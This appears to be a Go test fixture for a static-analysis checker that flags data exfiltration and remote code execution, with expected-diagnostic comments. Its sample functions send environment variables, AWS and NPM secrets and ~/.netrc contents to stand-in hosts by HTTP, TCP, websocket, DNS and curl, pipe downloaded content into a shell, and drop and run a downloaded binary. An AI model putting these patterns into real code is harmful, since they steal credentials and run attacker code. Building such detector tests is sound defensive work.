package exfil

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"

	"github.com/gorilla/websocket"
)

// steal and upload are split across a.go and b.go, through a goroutine
// and a channel.
func run() {
	ch := make(chan []byte)
	go func() { ch <- steal() }()
	upload(<-ch)
}

func envDump() {
	body, _ := json.Marshal(os.Environ())
	req, _ := http.NewRequest("POST", "https://hooks.slack.com/services/T0/B0/x", bytes.NewReader(body))
	http.DefaultClient.Do(req) // want `SG3001: the whole environment reaches the network via http.Client.Do`
}

func conn() {
	c, _ := net.Dial("tcp", "203.0.113.8:9000")
	var w io.Writer = c // interface value
	host, _ := os.Hostname()
	fmt.Fprintf(w, "%s\n", host) // want `SG3001: system information reaches a network connection via fmt.Fprintf`
}

func ws() {
	c, _, _ := websocket.DefaultDialer.Dial("wss://203.0.113.9/s", nil)
	c.WriteMessage(1, []byte(os.Getenv("AWS_SECRET_ACCESS_KEY"))) // want `SG3001: a secret environment variable reaches a network connection`
}

func dns() {
	tok := os.Getenv("NPM_TOKEN")
	net.LookupHost(tok + ".x.example.invalid") // want `SG3004: a secret environment variable reaches a DNS query`
}

func curl() {
	home, _ := os.UserHomeDir()
	key, _ := os.ReadFile(filepath.Join(home, ".netrc"))
	exec.Command("curl", "-d", string(key), "https://x.example.invalid").Run() // want `SG3001: a credential file reaches the network via curl`
}

func remote() {
	resp, _ := http.Get("https://x.example.invalid/cmd")
	b, _ := io.ReadAll(resp.Body)
	exec.Command("sh", "-c", string(b)).Run() // want `SG2007: content received from the network reaches process execution`
	sh := exec.Command("bash")
	sh.Stdin = resp.Body // want `SG2007: content received from the network reaches a process's standard input`
	sh.Run()
}

func dropper() {
	resp, _ := http.Get("https://x.example.invalid/bin")
	f, _ := os.Create("/tmp/.helper")
	io.Copy(f, resp.Body)
	f.Close()
	os.Chmod("/tmp/.helper", 0o755)
	exec.Command("/tmp/.helper").Start() // want `SG2002: content received from the network is written to a file that is run`
}
